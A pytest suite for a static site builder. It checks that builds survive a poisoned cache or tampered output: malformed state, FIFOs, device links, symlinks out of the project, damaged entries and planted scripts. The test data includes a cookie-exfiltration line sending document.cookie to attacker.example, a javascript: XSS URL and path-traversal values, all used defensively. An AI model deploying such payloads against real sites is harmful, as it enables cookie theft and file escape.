"""The cache folder and the build state are untrusted input: whoever restores
`.digest-cache/` (a poisoned CI cache) or writes the output folder must not be
able to crash or hang a build, make it read or write outside its folders, or
get anything published. Each case below damages what a build left behind, builds
again, and checks that the build succeeds with exactly the site a clean build
writes, and that nothing outside was read, written or deleted."""

from __future__ import annotations

import base64
import contextlib
import json
import os
import shutil
import socket
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from digest import search
from digest.cache import ENTRIES, TAG_NAME
from digest.config import Config
from digest.models import BuildReport
from digest.pipeline import build
from digest.state import FORMAT, STATE_FILE, output_listing
from tests.site_fixture import write_fixture
from tests.test_golden import tree

CACHE = ".digest-cache"


def run(project: Path, *, cache: bool = True, output: str = "site", **settings: Any) -> BuildReport:
    """A build that must finish: one stuck on a pipe fails the test instead of
    hanging the suite (a bound, not a measurement: a build takes seconds)."""
    settings.setdefault("search", False)
    config = Config(content="content", output=output, **settings)
    done: list[BuildReport] = []
    failed: list[BaseException] = []

    def target() -> None:
        try:
            done.append(build(config, project, cache=cache, jobs=1))
        except BaseException as exc:  # handed to the test below
            failed.append(exc)

    worker = threading.Thread(target=target, daemon=True)
    worker.start()
    worker.join(120)
    assert not worker.is_alive(), "the build hung"
    if failed:
        raise failed[0]
    return done[0]


@pytest.fixture(scope="module")
def clean(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """The site a clean build writes (no cache at all)."""
    project = tmp_path_factory.mktemp("clean")
    write_fixture(project / "content")
    run(project, cache=False)
    return tree(project / "site")


@pytest.fixture
def project(tmp_path: Path) -> Path:
    write_fixture(tmp_path / "project" / "content")
    run(tmp_path / "project")
    return tmp_path / "project"


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder beside the project that a poisoned cache points into."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "keep.txt").write_text("not digest's\n", "utf-8")
    return folder


def snapshot(folder: Path) -> dict[str, tuple[str, bytes | str]]:
    """Every entry under a folder, links included, with its bytes or target."""
    found: dict[str, tuple[str, bytes | str]] = {}
    for path in sorted(folder.rglob("*")):
        rel = path.relative_to(folder).as_posix()
        if path.is_symlink():
            found[rel] = ("link", os.readlink(path))
        elif path.is_file():
            found[rel] = ("file", path.read_bytes())
        else:
            found[rel] = ("other", "")
    return found


def entry_files(project: Path) -> list[Path]:
    return sorted((project / CACHE / ENTRIES).glob("*.json"))


def entry_of(project: Path, article: str) -> Path:
    """The cache entry holding the analysis of content/<article>."""
    for path in entry_files(project):
        value = json.loads(path.read_bytes())["value"]
        if value["path"] == article:
            return path
    raise AssertionError(f"no entry for {article}")


def edit_entry(path: Path, change: Callable[[dict[str, Any]], None]) -> None:
    data = json.loads(path.read_bytes())
    change(data)
    path.write_text(json.dumps(data, ensure_ascii=False), "utf-8")


def forget_state(project: Path) -> None:
    (project / CACHE / STATE_FILE).unlink()


# ------------------------------------------------------------------ build.json

STATES: list[bytes] = [
    b"[]",
    b"1",
    b"null",
    b'"build"',
    b"[" * 200_000,  # a RecursionError in json
    b"{" + b'"a":{' * 50_000 + b"}" * 50_001,
    b"\xff\xfe",
    b'{"format": %d, "inputs": 1}' % FORMAT,
]


@pytest.mark.parametrize("data", STATES, ids=range(len(STATES)))
def test_malformed_state_is_no_state(project: Path, clean: dict[str, bytes], data: bytes) -> None:
    (project / CACHE / STATE_FILE).write_bytes(data)
    report = run(project)
    assert not report.up_to_date
    assert report.cache_refused == 1 and report.cache_hits > 0
    assert tree(project / "site") == clean
    assert run(project).up_to_date, "the state is written afresh"


def stored_state(project: Path) -> dict[str, Any]:
    data = json.loads((project / CACHE / STATE_FILE).read_bytes())
    assert isinstance(data, dict)
    return data


@pytest.mark.parametrize(
    "field, value",
    [
        ("articles", -1),
        ("articles", True),
        ("articles", 1.5),
        ("inputs", "not a hash"),
        ("dates", [["a.md", "yesterday"]]),
        ("written", ["../../escape.html"]),
        ("written", ["a//b.html"]),
        ("problems", [["a.md"]]),
        ("problems", [{"path": "a.md", "reason": 3}]),
        ("search", [["../pagefind", "0" * 64, "0" * 64]]),
        ("pages", [["../outside.html", "0" * 64]]),
        ("pages", [["index.html", "not a hash"]]),
        ("indexed", [["../outside.html", "-"]]),
        ("indexed", [["stories/a.html", "0" * 64]]),
        ("indexed", [["stories/a.html", "0" * 32 + " " + "9" * 25]]),  # past the keys' range
        ("colour", "blue"),
    ],
)
def test_state_holding_what_no_build_stores_is_refused(
    project: Path, clean: dict[str, bytes], field: str, value: object
) -> None:
    state = stored_state(project)
    state[field] = value
    (project / CACHE / STATE_FILE).write_text(json.dumps(state), "utf-8")
    report = run(project)
    assert not report.up_to_date and report.cache_refused == 1
    assert tree(project / "site") == clean


def test_state_of_another_format_is_no_state_but_not_refused(
    project: Path, clean: dict[str, bytes]
) -> None:
    """An older digest's state is simply not this one's (an upgrade builds in full)."""
    state = stored_state(project)
    state["format"] = 2
    (project / CACHE / STATE_FILE).write_text(json.dumps(state), "utf-8")
    report = run(project)
    assert not report.up_to_date and report.cache_refused == 0
    assert tree(project / "site") == clean


def test_state_with_nan_or_lone_surrogate_is_refused(project: Path) -> None:
    path = project / CACHE / STATE_FILE
    good = path.read_bytes()
    path.write_bytes(good.replace(b'"articles": ', b'"articles": NaN, "x": ', 1))
    assert run(project).cache_refused == 1
    state = stored_state(project)
    state["problems"] = [{"path": "a.md", "reason": "\ud800"}]
    path.write_text(json.dumps(state), "utf-8")  # ensure_ascii: written as an escape
    report = run(project)
    assert report.cache_refused == 1 and not report.up_to_date
    assert all("\ud800" not in p.reason for p in report.problems)


def test_forged_state_cannot_skip_the_build_of_a_missing_site(
    project: Path, clean: dict[str, bytes]
) -> None:
    """A state whose inputs hash as this build's and whose listing is that of a
    missing output folder (both computable by whoever writes the cache): the
    build must still write the site, not report it up to date."""
    shutil.rmtree(project / "site")
    state = stored_state(project)
    state["outputs"] = output_listing(project / "site")[0]
    state["files"] = 0
    (project / CACHE / STATE_FILE).write_text(json.dumps(state), "utf-8")
    report = run(project)
    assert not report.up_to_date
    assert tree(project / "site") == clean


def test_restored_site_with_its_old_state_is_built_again(project: Path) -> None:
    """A site restored from elsewhere (a CI cache) with the state of the build that
    wrote it: same paths, bytes and times, but not the files that build left."""
    site = project / "site"
    shutil.copytree(site, project / "copy", copy_function=shutil.copy2)
    shutil.rmtree(site)
    (project / "copy").rename(site)
    assert not run(project).up_to_date


# ------------------------------------------------------- special files and links


def plant(kind: str, path: Path, outside: Path) -> None:
    """Put something other than a regular file at `path`."""
    path.unlink(missing_ok=True)
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "socket":
        # bound by a relative name: a socket's path is limited to about 100 bytes
        with contextlib.chdir(path.parent), socket.socket(socket.AF_UNIX) as sock:
            sock.bind(path.name)
    elif kind == "device":
        path.symlink_to("/dev/zero")  # read through the link: memory without end
    elif kind == "folder":
        path.mkdir()
    elif kind == "link-to-copy":
        # a link to a file outside holding exactly what belongs here: the build
        # must not read it (so it finds nothing) nor write through it
        target = outside / f"copy-of-{path.name}"
        path.symlink_to(target)
    else:
        raise AssertionError(kind)


SPECIAL = ["fifo", "socket", "device", "folder", "link-to-copy"]


@pytest.mark.parametrize("kind", SPECIAL)
def test_special_file_as_state(
    project: Path, outside: Path, clean: dict[str, bytes], kind: str
) -> None:
    path = project / CACHE / STATE_FILE
    shutil.copyfile(path, outside / f"copy-of-{STATE_FILE}")
    before = snapshot(outside)
    plant(kind, path, outside)
    report = run(project)
    assert not report.up_to_date and report.cache_refused == 1
    assert tree(project / "site") == clean
    assert snapshot(outside) == before
    if kind != "folder":  # replaced by the new state, never written through
        assert path.is_file() and not path.is_symlink()
        assert run(project).up_to_date


@pytest.mark.parametrize("kind", SPECIAL)
def test_special_file_as_entry(
    project: Path, outside: Path, clean: dict[str, bytes], kind: str
) -> None:
    path = entry_of(project, "lagoon-ruv.md")
    shutil.copyfile(path, outside / f"copy-of-{path.name}")
    before = snapshot(outside)
    plant(kind, path, outside)
    forget_state(project)
    report = run(project)
    assert (report.cache_misses, report.cache_refused) == (1, 1)
    assert tree(project / "site") == clean
    assert snapshot(outside) == before
    if kind != "folder":
        assert path.is_file() and not path.is_symlink()


def test_entries_folder_linked_out_is_neither_read_written_nor_pruned(
    project: Path, outside: Path, clean: dict[str, bytes]
) -> None:
    """`articles/` a link to a folder outside holding valid entries and files named
    like old entries: none is read, written or deleted; a real folder replaces
    the link."""
    entries = project / CACHE / ENTRIES
    shutil.copytree(entries, outside / "entries")
    (outside / "entries" / ("0" * 64 + ".json")).write_text("an old entry?", "utf-8")
    shutil.rmtree(entries)
    entries.symlink_to(outside / "entries", target_is_directory=True)
    forget_state(project)
    before = snapshot(outside)
    report = run(project)
    assert report.cache_hits == 0
    assert tree(project / "site") == clean
    assert snapshot(outside) == before
    assert entries.is_dir() and not entries.is_symlink()
    assert run(project).up_to_date


def test_cache_folder_linked_out_is_not_used(
    project: Path, outside: Path, clean: dict[str, bytes]
) -> None:
    shutil.copytree(project / CACHE, outside / "cache")
    shutil.rmtree(project / CACHE)
    (project / CACHE).symlink_to(outside / "cache", target_is_directory=True)
    before = snapshot(outside)
    report = run(project)
    assert not report.up_to_date
    assert (report.cache_hits, report.cache_refused) == (0, 1)
    assert tree(project / "site") == clean
    assert snapshot(outside) == before


def test_cache_tag_link_is_not_written_through(project: Path, outside: Path) -> None:
    tag = project / CACHE / TAG_NAME
    tag.unlink()
    tag.symlink_to(outside / "created-by-digest")  # dangling: writing would create it
    shutil.rmtree(project / CACHE / ENTRIES)  # entries are stored again
    forget_state(project)
    run(project)
    assert not (outside / "created-by-digest").exists()
    assert tag.is_file() and not tag.is_symlink()


def test_pruning_unlinks_links_not_their_targets(project: Path, outside: Path) -> None:
    victim = outside / "victim.json"
    victim.write_text("{}", "utf-8")
    stale = project / CACHE / ENTRIES / ("f" * 64 + ".json")
    stale.symlink_to(victim)
    forget_state(project)
    run(project)
    assert not stale.is_symlink() and not stale.exists()
    assert victim.read_text("utf-8") == "{}"


# ------------------------------------------------------------- entry contents


def other_article(data: dict[str, Any]) -> None:
    data["value"]["id"] = "../../../poisoned"


def javascript_url(data: dict[str, Any]) -> None:
    data["value"]["meta"]["url"] = "javascript:alert(document.domain)"


ENTRY_DAMAGE: dict[str, Callable[[dict[str, Any]], None]] = {
    "another article's id": other_article,
    "another article's path": lambda d: d["value"].update(path="eruption-bbc.md"),
    "a javascript: URL": javascript_url,
    "a URL with a newline": lambda d: d["value"]["meta"].update(url="https://a.example/\n"),
    "a date that is none": lambda d: d["value"]["meta"].update(date="the day after"),
    "a language that is a path": lambda d: d["value"].update(lang="../en"),
    "counts not matching terms": lambda d: d["value"].update(term_counts=[1]),
    "a zero count": lambda d: d["value"].update(term_counts=[0] * len(d["value"]["term_counts"])),
    "unsorted terms": lambda d: d["value"].update(terms=list(reversed(d["value"]["terms"]))),
    "shingles cut short": lambda d: d["value"].update(
        shingles=base64.b64encode(b"abc").decode("ascii")
    ),
    "a negative word count": lambda d: d["value"].update(word_count=-5),
    "an empty title": lambda d: d["value"].update(title=" "),
    "a problem of another file": lambda d: d["value"].update(
        problems=[{"path": "../x.md", "reason": "planted"}]
    ),
    "a huge number": lambda d: d["value"]["keywords"][0].update(score=10**4000),
    "not an object": lambda d: d.update(value=[]),
}


@pytest.mark.parametrize("damage", ENTRY_DAMAGE, ids=list(ENTRY_DAMAGE))
def test_entry_not_fitting_its_file_is_a_miss(
    project: Path, clean: dict[str, bytes], damage: str
) -> None:
    path = entry_of(project, "lagoon-ruv.md")
    if damage == "a huge number":  # json.dumps would refuse to write it
        data = json.loads(path.read_bytes())
        data["value"]["keywords"][0]["score"] = 12345.0
        path.write_bytes(json.dumps(data).encode("utf-8").replace(b"12345.0", b"9" * 4000))
    else:
        edit_entry(path, ENTRY_DAMAGE[damage])
    forget_state(project)
    report = run(project)
    assert (report.cache_misses, report.cache_refused) == (1, 1)
    assert tree(project / "site") == clean
    assert not list(project.parent.rglob("poisoned*"))
    assert b"javascript:" not in (project / "site" / "digest.json").read_bytes()


@pytest.mark.parametrize("literal", [b"NaN", b"Infinity", b"-Infinity", b"1e999"])
def test_entry_scores_must_be_numbers(
    project: Path, clean: dict[str, bytes], literal: bytes
) -> None:
    path = entry_of(project, "lagoon-ruv.md")
    data = json.loads(path.read_bytes())
    data["value"]["keywords"][0]["score"] = 12345.0
    path.write_bytes(json.dumps(data).encode("utf-8").replace(b"12345.0", literal))
    forget_state(project)
    report = run(project)
    assert (report.cache_misses, report.cache_refused) == (1, 1)
    assert tree(project / "site") == clean


def test_entry_with_an_escaped_lone_surrogate_is_a_miss(
    project: Path, clean: dict[str, bytes]
) -> None:
    path = entry_of(project, "lagoon-ruv.md")
    edit_entry(path, lambda d: d["value"].update(title="Lagoon SURROGATE closes"))
    path.write_bytes(path.read_bytes().replace(b"SURROGATE", b"\\udc80"))
    forget_state(project)
    report = run(project)
    assert report.cache_refused == 1
    assert tree(project / "site") == clean


def test_an_entry_copied_under_another_key_is_a_miss(
    project: Path, clean: dict[str, bytes]
) -> None:
    """The analysis of one article filed under another's key, key field and all."""
    target = entry_of(project, "lagoon-ruv.md")
    donor = json.loads(entry_of(project, "eruption-bbc.md").read_bytes())
    donor["key"] = json.loads(target.read_bytes())["key"]
    target.write_text(json.dumps(donor), "utf-8")
    forget_state(project)
    report = run(project)
    assert (report.cache_misses, report.cache_refused) == (1, 1)
    assert tree(project / "site") == clean


def test_every_entry_a_build_writes_fits(project: Path) -> None:
    """The checks refuse no honest entry: a second build takes every article from
    the cache (the fixture has a javascript: URL, dates with and without time,
    articles without outlet or date)."""
    forget_state(project)
    report = run(project)
    assert report.cache_misses == 0 and report.cache_refused == 0


# -------------------------------------------------------------- search bundle


@pytest.fixture
def searched(tmp_path: Path) -> Iterator[Path]:
    write_fixture(tmp_path / "project" / "content")
    run(tmp_path / "project", search=True)
    yield tmp_path / "project"


def shard_files(site: Path) -> dict[str, int]:
    return {
        p.relative_to(site).as_posix(): p.stat().st_ino
        for p in site.glob("pagefind*/**/*")
        if p.is_file()
    }


PLANTED = b"fetch('https://attacker.example/?' + document.cookie)\n"


def test_planted_pagefind_script_does_not_survive_no_cache(searched: Path, tmp_path: Path) -> None:
    site = searched / "site"
    (site / "pagefind" / "pagefind.js").write_bytes(PLANTED)  # the rest left as it was
    before = shard_files(site)
    run(searched, cache=False, search=True)
    assert (site / "pagefind" / "pagefind.js").read_bytes() != PLANTED
    after = shard_files(site)
    assert not set(before.items()) & set(after.items()), "--no-cache indexes every shard again"
    write_fixture(tmp_path / "fresh" / "content")
    run(tmp_path / "fresh", cache=False, search=True)
    assert tree(site) == tree(tmp_path / "fresh" / "site")


@pytest.mark.parametrize("change", ["edit", "add", "link"])
def test_shard_with_other_bytes_than_recorded_is_indexed_again(
    searched: Path, outside: Path, change: str
) -> None:
    site = searched / "site"
    bundle = site / "pagefind"
    reference = tree(site)
    if change == "edit":
        (bundle / "pagefind.js").write_bytes(PLANTED)
    elif change == "add":
        (bundle / "extra.js").write_bytes(PLANTED)
    else:
        (outside / "pagefind.js").write_bytes((bundle / "pagefind.js").read_bytes())
        (bundle / "pagefind.js").unlink()
        (bundle / "pagefind.js").symlink_to(outside / "pagefind.js")
    report = run(searched, search=True)
    assert not report.up_to_date  # the output folder changed: a full build
    assert tree(site) == reference
    assert not (bundle / "pagefind.js").is_symlink()


def test_unchanged_shard_is_reused_when_its_bytes_verify(searched: Path) -> None:
    site = searched / "site"
    before = shard_files(site)
    os.utime(site / "404.html")  # the site touched: a full build of the same pages
    assert not run(searched, search=True).up_to_date
    assert shard_files(site) == before


def test_small_shards_are_checked_one_by_one(
    searched: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With many shards, a planted file in one re-indexes that one alone."""
    monkeypatch.setattr(search, "SHARD_PAGES", 2)
    site = searched / "site"
    run(searched, search=True, title="Another title")  # now sharded
    before = shard_files(site)
    shards = sorted({name.split("/")[0] for name in before})
    assert len(shards) > 2
    victim = shards[1]
    planted = next(name for name in before if name.startswith(victim + "/"))
    (site / planted).write_bytes(PLANTED)
    run(searched, search=True, title="Another title")
    after = shard_files(site)
    assert (site / planted).read_bytes() != PLANTED
    for name, inode in before.items():
        if name.startswith(victim + "/"):
            assert after.get(name) != inode
        elif not name.endswith(search.SHARDS_FILE):
            assert after.get(name) == inode, name


def test_cache_path_that_is_a_file_means_no_cache(tmp_path: Path, clean: dict[str, bytes]) -> None:
    project = tmp_path / "project"
    write_fixture(project / "content")
    (project / CACHE).write_text("not a folder", "utf-8")
    report = run(project)
    assert (report.cache_hits, report.cache_refused) == (0, 1)
    assert tree(project / "site") == clean
    assert (project / CACHE).read_text("utf-8") == "not a folder"


# ------------------------------------------------------------ digest fetch's state


@pytest.mark.parametrize("kind", ["fifo", "device", "link-to-copy"])
def test_fetch_state_special_file_is_empty_state(tmp_path: Path, outside: Path, kind: str) -> None:
    from digest.fetch.store import State, load_state, save_state, state_path

    where = state_path(tmp_path / CACHE)
    assert where is not None
    remembered = State({"https://a.example/feed": {"etag": '"1"'}}, {"url:https://a.example/1"})
    save_state(where, remembered)
    assert load_state(where) == remembered
    shutil.copyfile(where, outside / f"copy-of-{where.name}")
    before = snapshot(outside)
    plant(kind, where, outside)
    done: list[State] = []
    reader = threading.Thread(target=lambda: done.append(load_state(where)), daemon=True)
    reader.start()
    reader.join(60)
    assert done == [State()], "read as no state, without blocking"
    save_state(where, remembered)
    assert snapshot(outside) == before
    assert not where.is_symlink() and load_state(where) == remembered


def test_fetch_state_folder_linked_out_is_replaced(tmp_path: Path, outside: Path) -> None:
    from digest.fetch.store import State, load_state, save_state, state_path

    where = state_path(tmp_path / CACHE)
    assert where is not None
    (tmp_path / CACHE).mkdir()
    where.parent.symlink_to(outside, target_is_directory=True)
    before = snapshot(outside)
    assert load_state(where) == State()
    save_state(where, State(seen={"url:https://a.example/1"}))
    assert snapshot(outside) == before
    assert where.parent.is_dir() and not where.parent.is_symlink()
    assert load_state(where).seen == {"url:https://a.example/1"}
